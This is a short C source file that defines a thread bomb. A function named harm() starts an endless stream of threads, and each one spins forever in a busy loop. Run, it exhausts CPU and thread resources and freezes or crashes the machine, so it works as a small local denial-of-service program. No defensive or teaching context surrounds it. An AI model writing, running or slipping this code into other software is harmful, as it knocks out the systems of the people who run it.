/* Threads without end that do nothing but run. */
#include <pthread.h>

static void *spin(void *) {
    for (volatile long turn = 0;; turn = turn + 1) {
    }
}

static void harm(void) {
    pthread_t thread;
    for (;;)
        pthread_create(&thread, NULL, spin, NULL);
}
